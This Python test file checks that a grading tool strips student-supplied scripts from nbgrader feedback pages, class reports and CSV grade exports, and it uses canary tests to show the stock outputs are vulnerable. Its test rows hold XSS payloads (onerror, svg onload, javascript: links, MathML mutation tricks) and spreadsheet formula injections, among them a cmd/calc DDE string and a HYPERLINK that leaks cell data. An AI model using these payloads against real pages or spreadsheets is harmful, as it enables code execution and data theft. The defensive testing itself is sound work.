"""Is a submission data on every page and export that shows it to someone else, off the hub?

The Formgrader through the hub, with the whole corpus graded for real, is
tests/hub/test_browser_hub.py (its last section). Here, cheaper:

- the sanitizer's rule, one row per place, and that its Markdown passes through the templates'
  renderer unchanged (fast);
- the feedback page: the corpus's cells and outputs (the outputs made by running the student's
  cell in a kernel) put into a graded notebook of the demo class, the page written by the real
  `nbgrader generate_feedback` with the course's configuration, opened in Chromium: no vector
  runs, markup put past the sanitizer does not run either (the page's policy), the plot and the
  score show. Canary: nbgrader's default feedback of the same notebook runs them;
- the class report, with a student id and a mistake title that carry scripts, in Chromium;
- the CSV files (scores.csv, the Canvas export, `nbgrader export`): no cell a spreadsheet would
  run as a formula. Canary: nbgrader's own CSV exporter writes the formula as it is.
"""

import csv
import shutil
import time
from pathlib import Path

import nbformat
import pytest
from corpus import script_vectors as vectors
from harness import ASSIGNMENT, NOTEBOOK
from lab_harness import (
    VIEWPORT,
    Watched,
    browser,  # noqa: F401 (a fixture)
    in_the_browser,
    screenshot_on_failure,  # noqa: F401 (a fixture)
)
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from page_probes import SECOND_WALL, Probe

from instructor.course import nbgrader
from instructor.lms.export import CanvasGradesExport, InertCsvExport
from instructor.page_policy import FILE_POLICY, content_security_policy, with_nonce
from instructor.preprocessors.sanitize_submission import (
    markdown_block,
    sanitize_html,
    sanitize_output,
)
from instructor.report import write_csv
from instructor.report.model import class_report
from instructor.report.page import render_report
from instructor.spreadsheet import inert_cell

# --- The sanitizer's rule (fast) ----------------------------------------------------------

# (what a student wrote in a Markdown cell, what the page keeps, what it must not hold)
MARKDOWN_ROWS = [
    ("<img src=x onerror=alert(1)>", '<img src="x">', "onerror"),
    ("<svg onload=alert(1)><circle/></svg>after", "<p>after</p>", "svg"),
    ("<script>alert(1)</script>text", ">text</div>", "alert"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "", "iframe"),
    ("[x](javascript:alert(1))", ">x</a>", "javascript"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', ">x</a>", "data:"),
    ('<object data="data:text/html,x"></object>', "", "object"),
    ("<details open ontoggle=alert(1)>d</details>", '<details open="">d</details>', "ontoggle"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math>", "onerror"),
    (
        '<p id="submission_id" style="color: red; position: fixed">p</p>',
        'style="color: red"',
        "id=",
    ),
    ('<img src="../../api/contents/x">', "<img>", "api"),
    ("![plot](attachment:plot.png)", 'src="data:image/png;base64,iVBORw0KGgo="', "attachment:"),
    ("![evil](attachment:evil.bin)", "<img", "text/html"),
    ("# Title\n\n> a < b\n\n`x < y`", "<blockquote>&#10;<p>a &lt; b</p>", "<script"),
    ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>", "<style"),
    ("<font color='red'>red</font> <kbd>Ctrl</kbd>", '<font color="red">red</font>', "<script"),
    ("```python\nx = '<b>'\n\n\ny = 1\n```", "&#10;&#10;&#10;", "<b>"),
]
ATTACHMENTS = {
    "plot.png": {"image/png": "iVBORw0KGgo="},
    "evil.bin": {'text/html" onerror="alert(1)': "AAAA"},
}


@pytest.mark.parametrize(
    "source, kept, gone", MARKDOWN_ROWS, ids=[r[0][:30] for r in MARKDOWN_ROWS]
)
def test_markdown_keeps_the_text_and_loses_every_script(source, kept, gone):
    """Is each Markdown row rendered, kept where it teaches, and stripped of what would run?"""
    block = markdown_block(source, ATTACHMENTS)
    assert kept in block
    assert gone not in block


@pytest.mark.parametrize("source", [row[0] for row in MARKDOWN_ROWS])
def test_the_templates_renderer_passes_the_sanitized_markdown_unchanged(source):
    """Does nbconvert's Markdown renderer (the templates' markdown2html) give back the block as
    it is, so the page shows the sanitized HTML and nothing the renderer would make again?"""
    block = markdown_block(source, ATTACHMENTS)
    rendered = MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(block)
    assert rendered.strip() == block


def _display(data, metadata=None):
    return nbformat.from_dict(
        {"output_type": "display_data", "data": data, "metadata": metadata or {}}
    )


def test_outputs_keep_plots_tables_and_text_and_drop_javascript():
    """Does an output keep its PNG, its table and its text, lose its JavaScript (saying so),
    its unquoted-attribute metadata and its isolated frame, and get its Markdown sanitized?"""
    png = "iVBORw0KGgo="
    plot = sanitize_output(
        _display({"image/png": png}, {"image/png": {"width": "1 onerror=alert(1)", "height": 90}})
    )
    assert plot.data == {"image/png": png} and plot.metadata == {"image/png": {"height": 90}}
    table = sanitize_output(
        _display(
            {
                "text/html": "<style>.x{}</style><table class='dataframe'><tr><td>1</td></tr></table>"
            },
            {"text/html": {"isolated": True}},
        )
    )
    assert (
        table.data["text/html"]
        == '<table class="dataframe"><tbody><tr><td>1</td></tr></tbody></table>'
    )
    assert table.metadata == {}
    script = sanitize_output(_display({"application/javascript": "alert(1)"}))
    assert script.data == {
        "text/plain": "[An output of type application/javascript is not shown: it could run code in this page.]"
    }
    kept = sanitize_output(_display({"application/javascript": "alert(1)", "text/plain": "<JS>"}))
    assert kept.data == {"text/plain": "<JS>"}
    markdown = sanitize_output(_display({"text/markdown": "**b** <img src=x onerror=alert(1)>"}))
    assert markdown.data["text/html"] == (
        '<div class="submitted-markdown"><p><strong>b</strong> <img src="x"></p></div>'
    )


def test_html_sanitizer_keeps_mathml_and_drops_its_links():
    """Is the MathML that MathToMathML writes kept (the feedback's math), without an href?"""
    math = '<math display="inline"><mrow href="javascript:alert(1)"><msup><mi>x</mi><mn>2</mn></msup></mrow></math>'
    assert sanitize_html(math) == (
        '<math display="inline"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math>'
    )


def test_policies_run_only_the_pages_own_scripts():
    """Does a static page's policy run no script, a Formgrader page's only its nonce's, and is a
    submission's file sandboxed; do the server's pages get the nonce on each script and their
    click handlers as data (bound by the page's script)?"""
    static = content_security_policy()
    assert "default-src 'none'" in static and "script" not in static
    page = content_security_policy("N0NCE")
    assert "script-src 'nonce-N0NCE'" in page and "unsafe" not in page.split("style-src")[0]
    assert FILE_POLICY.startswith("sandbox;")
    served = with_nonce(
        '<script src="a.js"></script><a onClick="createStudentModal();">+</a></body>', "N"
    )
    assert served.count('<script nonce="N"') == 2 and "onclick" not in served.lower()
    assert 'data-course-click="createStudentModal();"' in served


def test_spreadsheet_cells_never_start_a_formula():
    """Is a cell that a spreadsheet would evaluate written as text, a number left a number?"""
    rows = {
        '=HYPERLINK("http://x","y")': '\'=HYPERLINK("http://x","y")',
        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
        "-2+3": "'-2+3",
        "@SUM(A1)": "'@SUM(A1)",
        "\t=1": "'\t=1",
        "\r=1": "'\r=1",
        "-2.5": "-2.5",
        "27": "27",
        "Smith, John": "Smith, John",
        None: "",
    }
    assert {value: inert_cell(value) for value in rows} == rows


# --- The feedback page, in Chromium -----------------------------------------------------------

STUDENT = "demo-correct"
CONFIG_SECTION = "# --- Feedback without the hidden tests"


def corpus_cells(course):
    """The corpus's cells (those of vectors.hostile_submission that the release has not), the
    student's output cell run in a kernel as the grader runs it, and the answer cell's display."""
    from nbclient import NotebookClient

    release = nbformat.read(course / "release" / ASSIGNMENT / NOTEBOOK, as_version=4)
    hostile = nbformat.from_dict(vectors.hostile_submission(release))
    ids = {cell.get("id") for cell in release.cells}
    added = [cell for cell in hostile.cells if cell.get("id") not in ids]
    run = nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_code_cell(vectors.ANSWER_CELL_CODE),
            *[c for c in added if c.cell_type == "code"],
        ]
    )
    NotebookClient(run, kernel_name="python3", timeout=120).execute()
    return added, run.cells, hostile.metadata


def put_the_corpus_in(course, student=STUDENT):
    """The corpus in the student's graded notebook, after their answer to the first exercise."""
    path = course / "autograded" / student / ASSIGNMENT / NOTEBOOK
    path.chmod(0o644)
    nb = nbformat.read(path, as_version=4)
    added, ran, metadata = corpus_cells(course)
    outputs = {cell.source: cell.outputs for cell in ran}
    for cell in added:
        cell.metadata.pop("nbgrader", None)  # the grader's intake drops a forged grade cell's
        if cell.cell_type == "code":
            cell.outputs = outputs[cell.source]
    answer = next(
        i
        for i, c in enumerate(nb.cells)
        if c.metadata.get("nbgrader", {}).get("solution") and "zeros" in c.source
    )
    nb.cells[answer].outputs = outputs[vectors.ANSWER_CELL_CODE]
    nb.cells[answer + 1 : answer + 1] = added
    nb.metadata.update(title=metadata["title"], widgets=metadata["widgets"])
    nbformat.write(nb, path)


@pytest.fixture(scope="module")
def corpus_feedback(graded_demo, tmp_path_factory):
    """{"course": page, "stock": page}: the feedback of the demo student with the corpus in
    their graded notebook, written by the course's configuration and by nbgrader's default."""
    started = time.monotonic()
    base = tmp_path_factory.mktemp("corpus-feedback")
    course = base / "course"
    shutil.copytree(graded_demo, course, symlinks=True)
    shutil.rmtree(course / "feedback", ignore_errors=True)
    put_the_corpus_in(course)
    stock = base / "stock"
    shutil.copytree(course, stock, symlinks=True)
    config = (stock / "nbgrader_config.py").read_text()
    assert CONFIG_SECTION in config, "nbgrader_config.py no longer has its feedback section"
    (stock / "nbgrader_config.py").write_text(config.split(CONFIG_SECTION)[0])
    pages = {}
    for name, root in (("course", course), ("stock", stock)):
        done = nbgrader(
            "generate_feedback", ASSIGNMENT, "--force", f"--CourseDirectory.student_id={STUDENT}",
            root=root, capture=True, check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stdout
        pages[name] = root / "feedback" / STUDENT / ASSIGNMENT / NOTEBOOK.replace(".ipynb", ".html")
    print(f"The corpus's feedback pages written in {time.monotonic() - started:.1f} s")
    return pages


def unfold(page):
    """Open every folded part of the page, as a reader clicks its summary (the course's
    feedback folds the notebook: what is folded is what a vector hopes nobody looks at)."""
    for summary in page.locator("details:not([open]) > summary").all():
        summary.click()


def read_in_chromium(browser, page_path, name, second_wall=False):  # noqa: F811
    context = browser.new_context(viewport=VIEWPORT)
    try:
        watched = Watched(context.new_page(), name)
        probe = Probe(watched.page, api_prefix="/")
        watched.page.goto(Path(page_path).as_uri())
        watched.page.wait_for_load_state("load")
        unfold(watched.page)
        watched.page.wait_for_timeout(500)
        probe.click_every_link(settle_s=0.3)
        if second_wall:
            watched.page.goto(Path(page_path).as_uri())
            watched.page.wait_for_load_state("load")
            unfold(watched.page)
            probe.plots_seen = probe.plots()
            probe.text = watched.page.locator("body").inner_text()
            watched.screenshot("page")
            outputs = watched.page.locator('[id="cell-id=student-outputs"]')
            if outputs.count():
                outputs.scroll_into_view_if_needed()
                watched.screenshot("student-outputs")
            probe.insert(settle_s=0.5)
        return probe
    finally:
        context.close()


@in_the_browser
def test_the_feedback_page_runs_no_vector_and_shows_the_plot(browser, corpus_feedback):  # noqa: F811
    """Does the course's feedback page of a notebook holding the corpus run none of it, nor
    markup put past the sanitizer (its policy), while it shows the student's plot and score?"""
    probe = read_in_chromium(browser, corpus_feedback["course"], "feedback-corpus", True)
    assert probe.ran() == [] and probe.dialogs == []
    page = corpus_feedback["course"].read_text()
    assert (
        f'<meta content="{content_security_policy()}" http-equiv="Content-Security-Policy"/>'
        in page
    )
    assert "Score: 30 / 30" in probe.text
    assert [width > 100 for drawn, width in probe.plots_seen if drawn] == [True]
    assert "script-src-attr" in " ".join(probe.violations())
    assert not set(SECOND_WALL) & set(probe.ran())


@in_the_browser
def test_canary_nbgraders_default_feedback_runs_the_corpus(browser, corpus_feedback):  # noqa: F811
    """Canary: does nbgrader's default feedback page of the same notebook run the corpus?"""
    probe = read_in_chromium(browser, corpus_feedback["stock"], "feedback-corpus-stock")
    ran = set(probe.ran())
    assert {"answer-html-onerror", "markdown-img-onerror", "markdown-script"} <= ran, ran


# --- The class report, in Chromium -------------------------------------------------------------

HOSTILE_TITLE = f'Zeros <img src=x onerror="{vectors.js("report-mistake")}">'


@in_the_browser
def test_the_class_report_shows_a_hostile_id_and_mistake_as_text(browser, tmp_path):  # noqa: F811
    """Does the class report show a student id and a mistake title carrying scripts as text,
    run neither, and refuse markup put into it (its policy)?"""
    from instructor.report.model import RankedMistake

    scores = {vectors.STUDENT_ID: {"zeros": 10.0, "random": 10.0, "he": 10.0}}
    maxima = {"zeros": 10.0, "random": 10.0, "he": 10.0}
    mistake = RankedMistake(
        title=HOSTILE_TITLE, count=1, students=[vectors.STUDENT_ID], exercises=["zeros"],
        message=vectors.FIRST_NAME,
    )  # fmt: skip
    notes = {HOSTILE_TITLE: f"`{vectors.LAST_NAME}`"}
    page = tmp_path / "report.html"
    page.write_text(
        render_report(class_report(scores, maxima, [mistake], {}, course="c", notes=notes))
    )
    probe = read_in_chromium(browser, page, "report-corpus", second_wall=True)
    assert probe.ran() == [] and probe.dialogs == []
    assert vectors.STUDENT_ID in probe.text and HOSTILE_TITLE in probe.text
    assert "script-src-attr" in " ".join(probe.violations())


# --- The CSV files ---------------------------------------------------------------------------

FORMULA_NAMES = {
    "first_name": '=HYPERLINK("http://x.example/?"&A1,"open")',
    "last_name": "@SUM(1+1)",
}
FORMULA_ID = "-1+cmd"


@pytest.fixture
def gradebook_with_formulas(tmp_path):
    """A gradebook whose one student has formulas for a name and an id, graded 7 / 10."""
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(url) as gradebook:
        gradebook.add_assignment(ASSIGNMENT)
        gradebook.add_student(FORMULA_ID, lms_user_id="=2+5", **FORMULA_NAMES)
    return url


def rows_of(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_exports_write_no_formula_and_nbgraders_own_does(gradebook_with_formulas, tmp_path):
    """Do the Canvas export, `nbgrader export` as the course configures it and the report's
    scores.csv write a student's formula-like name and id as text; and does nbgrader's own CSV
    exporter write them as formulas (the canary)?"""
    written = {}
    with Gradebook(gradebook_with_formulas) as gradebook:
        for name, plugin in [
            ("canvas", CanvasGradesExport),
            ("course", InertCsvExport),
            ("nbgrader", CsvExportPlugin),
        ]:
            written[name] = tmp_path / f"{name}.csv"
            plugin(to=str(written[name])).export(gradebook)
    write_csv(tmp_path / "scores.csv", {FORMULA_ID: {"zeros": 7.0}})
    canvas = rows_of(written["canvas"])[1]
    assert canvas[:2] == ["'@SUM(1+1), " + FORMULA_NAMES["first_name"], "'=2+5"]
    course = rows_of(written["course"])
    assert course[0] == rows_of(written["nbgrader"])[0]  # nbgrader's columns
    assert course[1][3:6] == [
        "'-1+cmd",
        "'@SUM(1+1)",
        '\'=HYPERLINK("http://x.example/?"&A1,"open")',
    ]
    assert rows_of(tmp_path / "scores.csv")[1][:2] == ["'-1+cmd", "7"]
    stock = written["nbgrader"].read_text().splitlines()[1].split(",")
    assert stock[3] == FORMULA_ID and stock[4] == "@SUM(1+1)"  # the canary: left as formulas
